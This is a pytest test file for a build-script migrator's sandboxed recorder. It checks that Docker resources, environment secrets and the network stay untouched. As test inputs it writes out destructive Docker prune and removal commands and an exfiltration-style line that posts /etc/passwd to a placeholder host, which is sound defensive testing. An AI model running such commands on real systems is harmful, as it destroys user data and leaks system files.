"""The user's images, containers, volumes and secrets are not the script's to touch, and nothing leaves the machine."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import uuid
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from verify_bench import NEW, REPOSITORY, SCRIPT, converted, prove

from migrator.project import Project
from migrator.verify.arms import VerifyOptions
from migrator.verify.recorder.modules import uses_sdk
from migrator.verify.verdict import Verdict

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from conftest import Engine

pytestmark = pytest.mark.engine
# What the script sees and does is at stake here, and not what the builder repeats.
QUICK = VerifyOptions(timeout=300, reuse_cache=True, beside=False)


@pytest.fixture
def users(each_engine: Engine) -> Iterator[dict[str, str]]:
    """What the user has: images and a container and a volume of the very names that the script uses."""
    docker = each_engine.docker
    unique = uuid.uuid4().hex
    docker("build", "-q", "-t", "ferry:latest", "-", input_text=f"FROM alpine:latest\nRUN echo {unique} > /mine\n")
    docker("tag", "ferry:latest", "ferry:build")
    mount = () if is_alone(each_engine) else ("-v", "ferry-data:/d")
    if mount:
        docker("volume", "create", "ferry-data")
    docker("rm", "-f", "ferry-extract", check=False)
    docker("create", "--name", "ferry-extract", *mount, "ferry:latest", "true")
    docker("tag", "alpine:latest", "ferry/base:latest")
    try:
        yield state(each_engine)
    finally:
        docker("rm", "-f", "ferry-extract")
        if mount:
            docker("volume", "rm", "ferry-data")
        docker("rmi", "-f", "ferry:latest", "ferry:build", "ferry/base:latest")


def is_alone(engine: Engine) -> bool:
    """Whether it is buildah without podman, which has neither volumes nor networks: what asks for them is refused."""
    return engine.name == "buildah"


def state(engine: Engine) -> dict[str, str]:
    """Everything with a name, and what it is."""
    images = engine.docker("images", "--no-trunc", "--format", "{{.Repository}}:{{.Tag}} {{.ID}}").stdout.split("\n")
    containers = engine.docker("ps", "-a", "--no-trunc", "--format", "{{.Names}} {{.ID}}").stdout.split("\n")
    volumes = engine.docker("volume", "ls", "--format", "{{.Name}} volume").stdout.split("\n")
    asked = ("network", "ls", "--no-trunc", "--format", "{{.Name}} {{.ID}}")
    networks = [] if is_alone(engine) else engine.docker(*asked).stdout.split("\n")
    lines = sorted(line for line in (*images, *containers, *volumes, *networks) if line and "<none>" not in line)
    return dict(line.rsplit(" ", 1) for line in lines)


HARSH = """
docker rm -f ferry-extract nobody || true
docker rmi ferry:latest ferry/base || true
docker rmi -f $(docker images -aq) || true
docker rm -f $(docker ps -aq) || true
docker rmi -f alpine:latest
docker image rm -f $(docker image inspect -f '{{.Id}}' alpine:latest) || true
docker system prune -af --volumes
docker container prune -f; docker image prune -af; docker volume prune -af; docker network prune -f
docker volume rm ferry-data || true
docker tag alpine:latest ferry/base
docker network create ferry-net && docker network rm ferry-net
docker volume create ferry-data && docker volume rm ferry-data
"""


def test_the_user_s_images_containers_and_volumes_stay(each_engine: Engine, users: dict[str, str]) -> None:
    harsh = HARSH
    if is_alone(each_engine):
        harsh = "".join(
            line + "\n" for line in HARSH.splitlines() if not {"volume", "network", "prune"} & {*line.split()}
        )
    script = SCRIPT.replace("set -e\n", "") + harsh + SCRIPT.replace("#!/bin/sh\nset -e", "")
    outcome = prove(each_engine, {**REPOSITORY, "build.sh": script}, options=QUICK)
    assert outcome.verdict is Verdict.IDENTICAL, outcome
    assert state(each_engine) == users


SEES = """
docker ps -a --format '{{.Names}}'
docker images --format '{{.Repository}}:{{.Tag}}'
docker ps -aq -f name=ferry-extract | wc -l
docker images -q ferry:latest | wc -l
docker inspect ferry-extract > /dev/null 2>&1 || echo no container
docker image inspect ferry:latest > /dev/null 2>&1 || echo no image
docker volume ls -q
"""


def test_the_script_sees_what_a_clean_machine_has(each_engine: Engine, users: dict[str, str]) -> None:
    said = run_and_read(each_engine, SEES, SCRIPT)
    assert said.splitlines() == ["0", "0", "no container", "no image"]
    assert state(each_engine) == users


def test_the_script_sees_what_it_made_under_its_own_names(engine: Engine) -> None:
    head = (
        "docker build -q -t ferry:build -f Dockerfile.build . > /dev/null 2>&1\n"
        "docker create --name ferry-extract ferry:build > /dev/null\n"
    )
    said = run_and_read(engine, head + SEES + "docker ps -lq | wc -l; docker rm ferry-extract\n", SCRIPT)
    assert said.splitlines() == ["ferry-extract", "ferry:build", "1", "0", "no image", "1", "ferry-extract"]


def run_and_read(engine: Engine, looks: str, script: str, **options: object) -> str:
    """What a piece of script prints, by way of a label of the image that is left."""
    output: list[bytes] = []
    text = "(\necho BEGIN-OF-IT\n" + looks + "\necho END-OF-IT\n) 2>&1\n" + script
    prove(engine, {**REPOSITORY, "build.sh": text}, options=replace(QUICK, output=output.append, **options))  # type: ignore[arg-type]  # rows of options
    said = b"".join(output).decode()
    return said.partition("BEGIN-OF-IT\n")[2].partition("END-OF-IT")[0]


LEAVES = """
echo secret | docker login --username me --password-stdin registry.example.test
docker push ferry:latest
docker logout
curl -d @/etc/passwd https://example.test/
wget https://example.test/x
ssh somebody@example.test true
scp build.sh example.test:
kubectl apply -f x; helm upgrade a b; aws s3 cp a b; gcloud run deploy
git push origin main
docker compose up -d
docker-compose up -d
docker context use other
docker buildx create --use
"""


def test_what_leaves_the_machine_is_not_run_and_said(engine: Engine) -> None:
    outcome = prove(engine, {**REPOSITORY, "build.sh": SCRIPT + LEAVES}, options=QUICK)
    assert outcome.verdict is Verdict.IDENTICAL
    said = [found.message for found in outcome.diagnostics if found.code == "MG435"]
    assert len(said) == len([line for line in LEAVES.splitlines() if line]) + 3


def test_secrets_of_the_user_are_not_the_script_s(
    engine: Engine, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cret")
    monkeypatch.setenv("DOCKER_AUTH_CONFIG", "s3cret")
    monkeypatch.setenv("HOME", str(tmp_path))
    said = run_and_read(engine, "env; echo $HOME", SCRIPT, env={"GIVEN": "on purpose"})
    assert "s3cret" not in said
    assert str(tmp_path) not in said
    assert "DOCKER_CONFIG" not in said
    assert "DOCKER_HOST" not in said
    assert "GIVEN=on purpose" in said


def test_sudo_and_other_names_of_docker_come_to_us(each_engine: Engine, users: dict[str, str]) -> None:
    script = SCRIPT.replace("docker build -t ferry:build", "sudo -E DOCKER_X=1 docker build -t ferry:build")
    script = script.replace("docker create", "podman create").replace("docker rm", "nerdctl rm")
    program = "docker" if is_alone(each_engine) else each_engine.program
    script = script.replace("docker build -t ferry:latest", f"sudo -n /usr/bin/{program} build -t ferry:latest")
    assert prove(each_engine, {**REPOSITORY, "build.sh": script}, options=QUICK).verdict is Verdict.IDENTICAL
    assert state(each_engine) == users


@pytest.mark.parametrize(
    "last",
    ["{client} tag ferry:build ferry:latest\n", "PATH={folder}:/usr/bin:/bin\n{program} rmi -f ferry:latest || true\n"],
)
def test_a_client_around_the_recorder_finds_no_engine_and_that_is_said(
    each_engine: Engine, users: dict[str, str], last: str
) -> None:
    """Also where the script takes no notice of it."""
    program = each_engine.program
    client = shutil.which(program, path=each_engine.env["PATH"])
    assert client is not None
    text = last.format(client=client, program=program, folder=client.rpartition("/")[0])
    outcome = prove(each_engine, {**REPOSITORY, "build.sh": SCRIPT + text}, options=QUICK)
    assert (outcome.verdict, [found.code for found in outcome.diagnostics]) == (Verdict.NOT_RUN, ["MG475"])
    assert state(each_engine) == users


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("build.py", "import docker\n", True),
        ("build.py", "import os, docker\n", True),
        ("build.py", "from docker.errors import APIError\n", True),
        ("build.py", "docker = importlib.import_module('docker')\n", True),
        ("build", "#!/usr/bin/env python3\nimport docker\n", True),
        ("build.py", "import os  # docker\n", False),
        ("build.sh", "#!/bin/sh\n# import docker\n", False),
    ],
)
def test_the_sdk_of_a_program_is_ours_however_it_is_imported(name: str, text: str, *, expected: bool) -> None:
    assert uses_sdk(Project.of({name: text})) is expected


def test_an_archive_of_the_user_s_names_is_not_loaded(
    each_engine: Engine, users: dict[str, str], tmp_path: Path
) -> None:
    archive = tmp_path / "x.tar"
    each_engine.docker("save", "-o", str(archive), "alpine:latest")
    said = run_and_read(
        each_engine, f"docker load -i {archive} || echo refused; docker load < {archive} || echo refused", SCRIPT
    )
    assert said.count("refused") == 2
    round_trip = SCRIPT.replace("docker rm ", "docker save ferry:build | docker load\ndocker rm ")
    assert prove(each_engine, {**REPOSITORY, "build.sh": round_trip}, options=QUICK).verdict is Verdict.IDENTICAL
    assert state(each_engine) == users


def test_what_is_committed_or_imported_is_private_and_has_no_trace_of_us(engine: Engine) -> None:
    script = (
        "docker build -t ferry:build -f Dockerfile.build .\n"
        "docker run --name work ferry:build sh -c 'echo x > /made'\n"
        "docker commit -c 'CMD [\"/run\"]' work ferry:latest\n"
        "docker rm work\n"
        "docker inspect -f '{{json .Config}}' ferry:latest\n"
    )
    output: list[bytes] = []
    new = (
        "FROM alpine:latest AS builder\n"
        + NEW.partition("\n")[2].partition("\n\n")[0]
        + '\nRUN echo x > /made\nCMD ["/run"]\n'
    )
    conversion = converted(new, artifacts=())
    options = replace(QUICK, output=output.append)
    outcome = prove(engine, {**REPOSITORY, "build.sh": script}, conversion, options)
    assert not [one for one in getattr(outcome, "differences", ()) if one.aspect == "config.Labels"]
    config = next(json.loads(line) for line in b"".join(output).splitlines() if line.startswith(b"{"))
    assert "migrator" not in json.dumps({key: value for key, value in config.items() if key != "Image"})


def test_a_repository_s_own_docker_is_not_ours_to_find(tmp_path: Path) -> None:
    """The recorder starts with nothing of the script's folder or environment in it."""
    from migrator.verify.recorder.main import install  # noqa: PLC0415 - beside its one use
    from migrator.verify.recorder.session import Session  # noqa: PLC0415

    session = Session("r", ("/bin/echo",), {}, str(tmp_path), str(tmp_path))
    install(tmp_path / "bin", session.save())
    (tmp_path / "json.py").write_text("raise SystemExit('imported from the repository')\n")
    env = {**os.environ, "PYTHONPATH": str(tmp_path), "PYTHONHOME": "/nonexistent", "PYTHONSTARTUP": "x"}
    done = subprocess.run(
        [tmp_path / "bin" / "docker", "version"], cwd=tmp_path, env=env, capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, "version\n"), done.stderr


def test_nothing_is_left(each_engine: Engine) -> None:
    prove(each_engine)
    assert each_engine.interface.named("migrator-") == ()
